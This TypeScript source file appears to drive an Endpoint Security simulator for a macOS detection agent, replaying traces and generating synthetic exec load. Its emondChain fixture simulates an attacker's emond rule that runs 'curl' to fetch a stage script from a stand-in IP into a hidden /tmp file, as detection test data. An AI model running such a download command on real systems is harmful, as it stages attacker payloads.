import type { ExecEvent } from '../events/exec-event.js';
import type { SimMessageSpec, SimulatorControls } from '../native/addon.js';

/**
 * What feeds the ES simulator when the agent runs with `--source simulator` (development, CI, the
 * demo and the benchmarks on machines that are not Macs): a recorded trace replayed through the
 * native path, and/or a synthetic load of ordinary execs with an emond chain now and then.
 */
export interface SimulationPlan {
  /** An eslogger or ECS NDJSON file whose events are injected in order. */
  replay?: string;
  /**
   * Ordinary execs per second, with an emond chain every `emondChainEverySeconds`. With `argBytes`
   * each ordinary exec carries about that many bytes of argv (a flood of huge command lines).
   */
  load?: { execPerSecond: number; emondChainEverySeconds: number; argBytes?: number };
}

/** The simulated machine's processes at start-up: the snapshot seeds the process tree with them. */
export const SIMULATED_PROCESSES = [
  { pid: 1, ppid: 0, pidversion: 1, executable: '/sbin/launchd' },
  { pid: 118, ppid: 1, pidversion: 118, executable: '/sbin/emond' },
  { pid: 412, ppid: 1, pidversion: 412, executable: '/bin/zsh' },
] as const;

/** Replay keeps at most this many messages injected but not yet delivered, so it never overflows the queue. */
const REPLAY_IN_FLIGHT = 4096;
const REPLAY_MAX_WAIT_MS = 2000;

export class SimulatorDriver {
  private stopped = false;
  /** Replayed messages handed to the simulator (the synthetic load is not counted: it has no end). */
  injected = 0;

  constructor(
    private readonly sim: SimulatorControls,
    private readonly delivered: () => number,
  ) {}

  /** Call before the source starts: the snapshot then includes the simulated processes. */
  prepare(): void {
    this.sim.setProcessTable(SIMULATED_PROCESSES.map((p) => ({ ...p })));
  }

  async run(plan: SimulationPlan): Promise<void> {
    if (plan.load) this.startLoad(plan.load);
    if (plan.replay) await this.replay(plan.replay);
  }

  /** Resolves once everything injected so far has reached JavaScript, or after `timeoutMs`; true if it all arrived. */
  async settled(timeoutMs: number): Promise<boolean> {
    const deadline = Date.now() + timeoutMs;
    while (this.delivered() < this.injected) {
      if (Date.now() > deadline) return false;
      await new Promise((resolve) => setTimeout(resolve, 5));
    }
    return true;
  }

  /** Ends the replay; the load's burst ends with the client (the source's stop). */
  stop(): void {
    this.stopped = true;
  }

  private async replay(file: string): Promise<void> {
    // The trace readers and parsers are loaded only for a replay, not for a synthetic load.
    const [{ readInto }, { BatchingReader }, { simulatorMessageFor }] = await Promise.all([
      import('../events/event-reader.js'),
      import('./reader-batches.js'),
      import('./simulator-messages.js'),
    ]);
    const pending: ExecEvent[] = [];
    const reader = new BatchingReader(file, (events) => pending.push(...events));
    await readInto(reader, file);
    let waitedMs = 0;
    for (let i = 0; i < pending.length && !this.stopped; ) {
      // Muted or unconvertible messages are never delivered: stop waiting for them after a while.
      if (this.injected - this.delivered() >= REPLAY_IN_FLIGHT && waitedMs < REPLAY_MAX_WAIT_MS) {
        await new Promise((resolve) => setTimeout(resolve, 2));
        waitedMs += 2;
        continue;
      }
      waitedMs = 0;
      const slice = pending.slice(i, i + 512).map(simulatorMessageFor);
      this.sim.inject(slice);
      this.injected += slice.length;
      i += slice.length;
    }
  }

  /**
   * One paced burst the simulator's own thread works through — ordinary execs with an emond chain
   * every `emondChainEverySeconds` — stamped with the time of each delivery. Nothing of the load
   * runs on the JavaScript thread, so the agent's CPU is measured without the generator's.
   */
  private startLoad(load: NonNullable<SimulationPlan['load']>): void {
    const chain = emondChain();
    const ordinaryPerChain = Math.max(1, Math.round(load.execPerSecond * load.emondChainEverySeconds) - chain.length);
    const pattern = [{ message: ordinaryExec(load.argBytes), repeat: ordinaryPerChain }, ...chain.map((message) => ({ message, repeat: 1 }))];
    // A day of load; stop() ends it sooner.
    const count = Math.round(load.execPerSecond * 86_400);
    this.sim.burst({ pattern, count, ratePerSecond: load.execPerSecond, stampNow: true });
  }
}

/** The size of each argument of a heavy load (like an `xargs` command line of file paths). */
export const LOAD_ARG_CHUNK_BYTES = 1000;

/**
 * A developer's shell running git: the bulk of the load, never an alert. With `argBytes`, git gets
 * about that many bytes of argv, in arguments of LOAD_ARG_CHUNK_BYTES, so the total cap
 * (maxArgBytes) and the count cap (maxArgs) decide what is kept, not the one-argument cap.
 */
export function ordinaryExec(argBytes?: number): SimMessageSpec {
  const args = ['git', 'status', '--short'];
  if (argBytes !== undefined) {
    let left = argBytes - args.join('').length;
    for (let i = 0; left > 0; i++) {
      const size = Math.min(LOAD_ARG_CHUNK_BYTES, left);
      const label = `--${i}=`;
      args.push(label + 'x'.repeat(Math.max(0, size - label.length)));
      left -= Math.max(size, label.length);
    }
  }
  return {
    type: 'exec',
    version: 7,
    process: { pid: 5000, pidversion: 5000, ppid: 412, executable: '/bin/zsh', parent: { pid: 412, pidversion: 412 } },
    target: { pid: 5000, pidversion: 5001, ppid: 412, executable: '/usr/bin/git', parent: { pid: 412, pidversion: 412 } },
    args,
    cwd: '/Users/ada/src/project',
  };
}

/**
 * emond running an attacker's rule action: it forks, the child execs `sh -c`, the shell execs curl
 * in place (still emond's child), and exits. Two alerts each time (sh and curl).
 */
function emondChain(): SimMessageSpec[] {
  const pid = 30_000;
  const version = 100_000;
  const emond = { pid: 118, pidversion: 118 };
  const child = { pid, ppid: 118, parent: emond };
  return [
    { type: 'fork', version: 7, process: { ...emond, ppid: 1, executable: '/sbin/emond' }, child: { ...child, pidversion: version, executable: '/sbin/emond' } },
    {
      type: 'exec',
      version: 7,
      process: { ...child, pidversion: version, executable: '/sbin/emond' },
      target: { ...child, pidversion: version + 1, executable: '/bin/sh' },
      args: ['sh', '-c', 'curl -fsS http://203.0.113.7/stage.sh -o /tmp/.s'],
    },
    {
      type: 'exec',
      version: 7,
      process: { ...child, pidversion: version + 1, executable: '/bin/sh' },
      target: { ...child, pidversion: version + 2, executable: '/usr/bin/curl' },
      args: ['curl', '-fsS', 'http://203.0.113.7/stage.sh', '-o', '/tmp/.s'],
    },
    { type: 'exit', version: 7, process: { ...child, pidversion: version + 2, executable: '/usr/bin/curl' }, exitStatus: 0 },
  ];
}
